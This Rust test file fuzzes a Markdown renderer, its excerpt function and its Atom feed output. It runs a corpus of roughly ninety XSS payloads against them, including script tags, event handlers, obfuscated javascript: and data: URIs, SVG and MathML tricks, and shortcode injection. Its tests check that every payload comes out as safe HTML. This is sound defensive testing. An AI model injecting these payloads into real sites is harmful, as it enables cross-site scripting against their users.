//! A corpus of XSS payloads through the renderer, the excerpt and the feed.

use super::{Library, assert_safe, unsafe_reason};
use backstride_publishing::*;
use proptest::prelude::*;

/// Payloads aimed at a Markdown renderer: raw HTML, event handlers, dangerous URL schemes in
/// every kind of link, entity-encoded and whitespace-split schemes, broken tags, SVG/MathML,
/// and Markdown's own attribute syntax.
pub const PAYLOADS: &[&str] = &[
    // Script tags, plain and mangled.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<script\n>alert(1)</script\n>",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    // Event-handler attributes.
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\"/>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\">x</a>",
    "<div onmouseover=\"alert(1)\">hover</div>",
    // SVG, MathML, iframe, object, embed and friends.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    // Raw anchors with dangerous hrefs.
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=javascript:alert(1)>x",
    // Broken and unclosed tags.
    "<img src=x onerror=alert(1)//",
    "<img\nsrc=x\nonerror=alert(1)\n>",
    "<a \"<img src=x onerror=alert(1)>\">",
    // javascript: in inline links.
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript:alert(1) \"title\")",
    "[click](<javascript:alert(1)>)",
    "[click](<jav\tascript:alert(1)>)",
    "[click](java&#115;cript:alert(1))",
    "[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](java&#10;script:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](%6Aavascript:alert(1))",
    "[click](javascript://%0Aalert(1))",
    "[click](\u{0}javascript:alert(1))",
    "[click](\u{FF4A}avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](livescript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[**bold _click_**](javascript:alert(1))",
    // Images.
    "![img](javascript:alert(1))",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![img](x\" onerror=\"alert(1))",
    "![x\" onerror=\"alert(1)](https://example.com/a.png)",
    "[![img](javascript:alert(1))](javascript:alert(2))",
    // Titles that try to break out of their attribute.
    "[click](https://example.com \"title\\\" onmouseover=\\\"alert(1)\")",
    "[click](https://example.com 'x\\' onclick=\\'alert(1)')",
    // Reference links and images.
    "[click][r]\n\n[r]: javascript:alert(1)",
    "[click][]\n\n[click]: JaVaScRiPt:alert(1)",
    "[click]\n\n[click]: <javascript:alert(1)>",
    "![img][r]\n\n[r]: javascript:alert(1)",
    "[a][r]\n\n[r]: https://ok.example \"x\\\" onclick=\\\"alert(1)\"",
    "[a][r]\n\n[r]: data:text/html,<script>alert(1)</script>",
    // Autolinks.
    "<javascript:alert(1)>",
    "<JavaScript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<javascript:alert(1)@example.com>",
    // Markdown attribute tricks (heading attributes are off) and code-fence info strings.
    "# Hi {onclick=alert(1)}",
    "# Hi {#x .y onmouseover=alert(1)}",
    "```\" onload=\"alert(1)\nx\n```",
    "```js onclick=alert(1)\nx\n```",
    // Shortcode injection.
    "{{exercise <script>alert(1)</script>}}",
    "{{cta guide\" onclick=\"alert(1)}}",
    "{{cta <img src=x onerror=alert(1)>}}",
    // Tables and lists carrying HTML.
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "| a |\n|:-:|\n| [x](javascript:alert(1)) |",
    "- <script>alert(1)</script>\n- [x](javascript:alert(1))",
    "> <iframe src=javascript:alert(1)>",
];

fn contexts(payload: &str) -> Vec<String> {
    vec![
        payload.to_owned(),
        format!("Before {payload} after"),
        format!("- {payload}"),
        format!("> {payload}"),
        format!("## {payload}"),
        format!("Line one\n{payload}\n{{{{cta guide}}}}"),
        format!("*{payload}*"),
        format!("[{payload}](https://ok.example)"),
    ]
}

#[test]
fn the_corpus_is_large_enough() {
    assert!(PAYLOADS.len() >= 40, "{}", PAYLOADS.len());
}

#[test]
fn every_payload_renders_to_safe_html() {
    for payload in PAYLOADS {
        for markdown in contexts(payload) {
            for html in [render(&markdown, &Library), render(&markdown, &NoEmbeds)] {
                assert_safe(&html, &markdown);
            }
        }
    }
    let everything = PAYLOADS.join("\n\n");
    assert_safe(&render(&everything, &Library), "all payloads together");
    let run_on = PAYLOADS.join("\n");
    assert_safe(&render(&run_on, &Library), "all payloads as one block");
}

#[test]
fn raw_html_is_shown_as_text_not_dropped() {
    let html = render("Use <b>bold</b> & <script>alert(1)</script>", &NoEmbeds);
    assert_eq!(
        html,
        "<p>Use &lt;b&gt;bold&lt;/b&gt; &amp; &lt;script&gt;alert(1)&lt;/script&gt;</p>\n"
    );
}

#[test]
fn unsafe_links_keep_their_text_and_unsafe_images_go() {
    assert_eq!(
        render("[click **here**](javascript:alert(1))", &NoEmbeds),
        "<p>click <strong>here</strong></p>\n"
    );
    assert_eq!(
        render("![a cat](data:image/png;base64,AAAA) after", &NoEmbeds),
        "<p>a cat after</p>\n"
    );
    assert_eq!(
        render("[x][r]\n\n[r]: javascript:alert(1)", &NoEmbeds),
        "<p>x</p>\n"
    );
}

#[test]
fn excerpts_and_feeds_survive_the_corpus() {
    let meta = super::feed::meta();
    let mut entries = Vec::new();
    for payload in PAYLOADS {
        let summary = excerpt(payload, EXCERPT_CHARS);
        assert!(summary.chars().count() <= EXCERPT_CHARS + 1);
        let tags: Vec<Tag> = payload
            .split(',')
            .filter_map(|t| Tag::parse(t).ok())
            .chain([Tag {
                slug: "odd".parse().unwrap(),
                name: (*payload).to_owned(),
            }])
            .collect();
        entries.push(FeedEntry {
            id: format!("https://clinic.example/a/{payload}"),
            url: format!("https://clinic.example/a/\"{payload}"),
            title: (*payload).to_owned(),
            author: (*payload).to_owned(),
            published: "2025-03-14T00:00:00Z".parse().unwrap(),
            updated: "2025-03-15T10:00:00Z".parse().unwrap(),
            summary,
            content_html: render(payload, &Library),
            tags,
        });
    }
    let xml = atom_feed(&meta, &entries);
    let doc = roxmltree::Document::parse(&xml).expect("the feed is well-formed XML");
    let atom = "http://www.w3.org/2005/Atom";
    let parsed: Vec<_> = doc
        .root_element()
        .children()
        .filter(|n| n.has_tag_name((atom, "entry")))
        .collect();
    assert_eq!(parsed.len(), PAYLOADS.len());
    for (node, entry) in parsed.iter().zip(&entries) {
        let child = |name: &str| {
            node.children()
                .find(|n| n.has_tag_name((atom, name)))
                .and_then(|n| n.text())
                .unwrap_or("")
                .to_owned()
        };
        assert_eq!(
            child("title"),
            xml_chars(&entry.title),
            "titles survive escaping"
        );
        assert_eq!(child("content"), xml_chars(&entry.content_html));
        let categories: Vec<&str> = node
            .children()
            .filter(|n| n.has_tag_name((atom, "category")))
            .filter_map(|n| n.attribute("label"))
            .collect();
        assert_eq!(
            categories.last().copied(),
            Some(xml_chars(&entry.title).as_str())
        );
    }
}

/// The text as XML can carry it: the control characters XML 1.0 forbids left out.
fn xml_chars(text: &str) -> String {
    text.chars()
        .filter(|c| !c.is_control() || matches!(c, '\t' | '\n' | '\r') || *c as u32 >= 0x7f)
        .collect()
}

/// Characters that matter to HTML, XML, Markdown and URLs, plus words that matter to XSS.
fn hostile() -> impl Strategy<Value = String> {
    let pieces = prop::sample::select(vec![
        "<",
        ">",
        "\"",
        "'",
        "&",
        "=",
        ":",
        "/",
        "[",
        "]",
        "(",
        ")",
        "!",
        "{{",
        "}}",
        "#",
        "\n",
        "\n\n",
        "\t",
        " ",
        ";",
        "`",
        "*",
        "_",
        "|",
        "-",
        "\\",
        "&#",
        "x",
        "6A",
        "106",
        "script",
        "javascript",
        "jav",
        "ascript",
        "on",
        "onerror",
        "img",
        "src",
        "href",
        "a",
        "svg",
        "data",
        "cta guide",
        "exercise couch-stretch",
        "http",
        "\u{0}",
        "\u{1}",
        "\u{FFFE}",
        "é",
        "%",
        "@",
    ]);
    prop::collection::vec(pieces, 0..60).prop_map(|p| p.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn hostile_markdown_renders_safely(markdown in hostile()) {
        assert_safe(&render(&markdown, &Library), &markdown);
        let summary = excerpt(&markdown, 50);
        prop_assert!(summary.chars().count() <= 51);
    }

    #[test]
    fn hostile_text_keeps_the_feed_well_formed(text in hostile()) {
        let meta = FeedMeta { title: text.clone(), subtitle: Some(text.clone()), ..super::feed::meta() };
        let entry = FeedEntry {
            id: text.clone(),
            url: text.clone(),
            title: text.clone(),
            author: text.clone(),
            published: "2025-03-14T00:00:00Z".parse().unwrap(),
            updated: "2025-03-14T00:00:00Z".parse().unwrap(),
            summary: excerpt(&text, EXCERPT_CHARS),
            content_html: render(&text, &Library),
            tags: vec![Tag { slug: "t".parse().unwrap(), name: text.clone() }],
        };
        let xml = atom_feed(&meta, &[entry]);
        let parsed = roxmltree::Document::parse(&xml);
        prop_assert!(parsed.is_ok(), "{:?}\n{}", parsed.err(), xml);
    }
}

#[test]
fn the_checker_catches_unsafe_html() {
    for bad in [
        "<script>alert(1)</script>",
        "<p><ScRiPt>x</script></p>",
        "<img src=\"x.png\" onerror=\"alert(1)\" />",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"java&#x09;script:alert(1)\">x</a>",
        "<a href=\"JAVASCRIPT&colon;alert(1)\">x</a>",
        "<img src=\"data:image/svg+xml,x\" />",
        "<iframe src=\"/x\"></iframe>",
        "<svg></svg>",
        "<p title=x onmouseover=alert(1)>x</p>",
        "<!-- x -->",
    ] {
        assert!(
            unsafe_reason(bad).is_some(),
            "the checker let through {bad}"
        );
    }
}
